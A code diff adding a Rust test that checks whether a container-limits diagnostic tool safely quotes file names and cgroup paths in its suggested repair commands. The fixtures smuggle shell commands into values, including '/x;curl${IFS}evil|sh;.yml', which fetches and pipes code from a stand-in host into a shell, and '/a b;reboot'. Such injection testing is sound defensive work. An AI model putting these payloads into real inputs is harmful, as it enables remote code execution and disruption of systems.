@@ -104,3 +104,25 @@ fn of_another_kernel_only_the_engine_knows() {
     let places: Vec<&str> = report.places.iter().map(|place| place.place.as_str()).collect();
     assert_eq!(places, ["engine"]);
 }
+
+#[test]
+fn what_an_image_says_is_one_word_of_a_command() {
+    let mut facts = composed(unlimited(), 25, 10);
+    let compose = facts.compose.as_mut().unwrap();
+    compose.files = vec!["/x;curl${IFS}evil|sh;.yml".into()];
+    for says in [Says::Invalid { why: "x".into() }, Says::Unknown { why: "x".into() }] {
+        facts.compose.as_mut().unwrap().says = says;
+        let command = &judge(&facts).findings[0].repair.command;
+        assert_eq!(command, "docker compose -f '/x;curl${IFS}evil|sh;.yml' config");
+    }
+    let mut facts = unlimited();
+    facts.chain[0].max = None;
+    facts.chain[1].path = "/a b;reboot".into();
+    (facts.chain[1].has_pids, facts.chain[1].hands_pids_down) = (Some(true), Some(false));
+    let report = only(&facts, Code::NotDelegated, Proved);
+    assert!(report.findings[0].repair.command.contains("cat 'a b;reboot',"));
+    let mut facts = below(Limit::Tasks(200), 100, 20);
+    facts.chain[1].path = "/a b".into();
+    let report = only(&facts, Code::AncestorLimit, Proved);
+    assert!(report.findings[0].repair.command.starts_with("raise '/a b/pids.max' "));
+}
